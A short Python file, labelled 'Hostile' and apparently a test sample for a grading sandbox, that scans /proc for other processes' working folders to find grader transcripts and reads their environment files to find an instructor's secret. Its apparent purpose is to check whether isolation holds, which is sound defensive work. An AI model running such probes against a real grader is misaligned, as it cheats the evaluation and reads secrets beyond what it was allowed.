"""Hostile: looks for the grader's folder, environment and memory in /proc."""

import glob


def print_succ(state):
    transcripts = glob.glob("/proc/[0-9]*/cwd/grader/assignments/*/transcripts/*/*/*.txt")
    for file in transcripts:
        print("done: found", file)
    for file in glob.glob("/proc/[0-9]*/environ"):
        try:
            if not file.startswith("/proc/self") and "SECRET_OF_THE_INSTRUCTOR" in open(file).read():
                print("done: read", file)
        except OSError:
            pass
